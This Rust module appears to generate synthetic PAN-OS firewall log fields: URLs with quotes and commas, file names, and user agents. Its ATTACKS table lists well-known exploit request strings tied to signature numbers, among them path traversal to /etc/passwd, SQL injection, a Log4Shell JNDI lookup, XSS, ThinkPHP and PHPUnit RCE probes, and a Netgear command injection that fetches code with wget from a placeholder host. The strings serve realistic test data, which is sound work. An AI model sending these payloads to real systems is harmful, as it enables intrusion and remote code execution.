//! What stands after the host name, and what browsers say about themselves: the free text that breaks naive parsers.

use std::fmt::Write as _;

use super::internet::Site;
use super::random::Random;

/// PAN-OS cuts the URL column at 1023 bytes by default.
const URL_BYTES_MAX: usize = 1023;

const SEGMENTS: [&str; 24] = [
    "news", "articles", "assets", "static", "js", "css", "img", "api", "v2", "products", "search", "docs", "download", "library", "papers", "2026",
    "items", "user", "session", "track", "collect", "media", "feed", "archive",
];
const FILES: [&str; 16] = [
    "index.html",
    "main.js",
    "app.bundle.js",
    "style.css",
    "logo.png",
    "pixel.gif",
    "beacon",
    "data.json",
    "feed.xml",
    "paper.pdf",
    "photo-1280x720.jpg",
    "font.woff2",
    "setup.exe",
    "update.cab",
    "manifest.mpd",
    "dataset.zip",
];
const PARAMETERS: [&str; 14] = ["id", "q", "utm_source", "utm_campaign", "session", "page", "lang", "ref", "v", "cb", "uid", "sort", "from", "token"];
const VALUES: [&str; 12] = [
    "newsletter",
    "ja",
    "en-GB",
    "spring%20offer",
    "mass+spectrometry",
    "%E5%AE%9F%E9%A8%93",
    "1",
    "true",
    "date_desc",
    "graphene",
    "home",
    "protein%20folding",
];

/// Writes `host/path?query` without a scheme, as column 31 of a URL line has it, in place of what `url` held.
///
/// Without a path (undecrypted TLS) only the host is known. One path in a hundred holds quotes, another one commas, and
/// one in three hundred is as long as the firewall lets it be.
pub(crate) fn write_url(url: &mut String, site: &Site, port: u16, has_path: bool, random: &mut Random) {
    url.clear();
    url.push_str(&site.domain);
    if !matches!(port, 80 | 443) {
        let _ = write!(url, ":{port}");
    }
    if !has_path {
        url.push('/');
        return;
    }
    url.push('/');
    for _ in 0..random.below(4) {
        url.push_str(random.pick(&SEGMENTS));
        url.push('/');
    }
    match random.below(10) {
        0 => {}
        1..=2 => {
            let _ = write!(url, "{}-{:x}", random.pick(&SEGMENTS), random.next_u32());
        }
        _ => url.push_str(random.pick(&FILES)),
    }
    match random.below(300) {
        0 => {
            url.push_str("?payload=");
            while url.len() < URL_BYTES_MAX - 16 {
                let _ = write!(url, "{:016x}", random.next_u64());
            }
        }
        1..=3 => {
            let (id, tag) = (random.below(10_000), random.pick(&SEGMENTS));
            let _ = write!(url, "?data={{\"profile_id\":{id},\"tags\":[\"{tag}\",\"x\"]}}");
        }
        4..=6 => {
            let (east, north) = (random.below(90), random.below(80));
            let _ = write!(url, "?bbox=139.{east},35.{north},140.{east},36.{north}&zoom={}", random.below(18));
        }
        7..=120 => {}
        _ => write_query(url, random),
    }
}

fn write_query(url: &mut String, random: &mut Random) {
    for index in 0..random.between(1, 5) {
        url.push(if index == 0 { '?' } else { '&' });
        url.push_str(random.pick(&PARAMETERS));
        url.push('=');
        if random.chance(1, 2) {
            url.push_str(random.pick(&VALUES));
        } else {
            let _ = write!(url, "{:x}", random.next_u64() >> random.below(40));
        }
    }
}

/// Requests that trip a signature, by its number.
const ATTACKS: [(u32, &str); 16] = [
    (30844, "/cgi-bin/../../../../../../etc/hosts"),
    (57955, "/"),
    (30514, "/search?q=1' UNION SELECT username, password FROM users--"),
    (91991, "/?x=${jndi:ldap://198.18.7.7:1389/a}"),
    (31477, "/?a=<script>alert(\"x\")</script>"),
    (30852, "/download?file=../../../../etc/passwd"),
    (36729, "/cgi-bin/status"),
    (54825, "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5"),
    (55852, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
    (37219, "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget+http://198.18.9.9/m"),
    (40031, "/login.php"),
    (40006, "/owa/auth.owa"),
    (91752, "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"),
    (92394, "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di"),
    (37836, "/xmlrpc.php"),
    (54965, "/wls-wsat/CoordinatorPortType"),
];

/// Writes the request that tripped `signature`, with the host it was sent to, in place of what `url` held.
pub(crate) fn write_attack(url: &mut String, host: std::net::IpAddr, signature: u32, random: &mut Random) {
    url.clear();
    let path = ATTACKS.iter().find(|it| it.0 == signature).map_or("/index.html", |it| it.1);
    let _ = write!(url, "{host}{path}");
    if random.chance(1, 5) {
        let _ = write!(url, "{}r={:x}", if path.contains('?') { '&' } else { '?' }, random.next_u32());
    }
}

/// Writes a file name for file, data, virus and wildfire lines; some are Japanese, some hold a comma.
pub(crate) fn write_file_name(name: &mut String, random: &mut Random) {
    const STEMS: [&str; 12] = [
        "report",
        "invoice_2026",
        "setup",
        "測定結果",
        "spectra,final",
        "grant-application",
        "driver_update",
        "thesis",
        "photo",
        "実験データ",
        "minutes",
        "order \"copy\"",
    ];
    const EXTENSIONS: [&str; 8] = ["pdf", "exe", "docx", "xlsm", "zip", "js", "jar", "dll"];
    name.clear();
    let (stem, extension) = (random.pick(&STEMS), random.pick(&EXTENSIONS));
    let _ = write!(name, "{stem}_{:03}.{extension}", random.below(1000));
}

/// A browser's self-description; most hold a comma and are therefore quoted.
pub(crate) fn user_agent(random: &mut Random) -> &'static str {
    const AGENTS: [&str; 10] = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
        "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
        "Microsoft-CryptoAPI/10.0",
        "Microsoft BITS/7.8",
        "curl/8.14.1",
        "Debian APT-HTTP/1.3 (2.6.1)",
        "Mozilla/4.0 (compatible; ms-office; MSOffice 16)",
    ];
    random.pick(&AGENTS)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::generate::internet::Internet;

    #[test]
    fn urls_are_bounded_and_some_hold_quotes_and_commas() {
        let (internet, mut random, mut url) = (Internet::new(), Random::new(5), String::new());
        let (mut with_quotes, mut with_commas) = (0, 0);
        for _ in 0..20_000 {
            let site = internet.site(internet.visit(&mut random));
            write_url(&mut url, site, 80, true, &mut random);
            assert!(url.len() <= URL_BYTES_MAX && url.starts_with(&site.domain), "{url}");
            with_quotes += u32::from(url.contains('"'));
            with_commas += u32::from(url.contains(','));
        }
        assert!(with_quotes > 100 && with_commas > with_quotes, "{with_quotes} {with_commas}");
    }
}
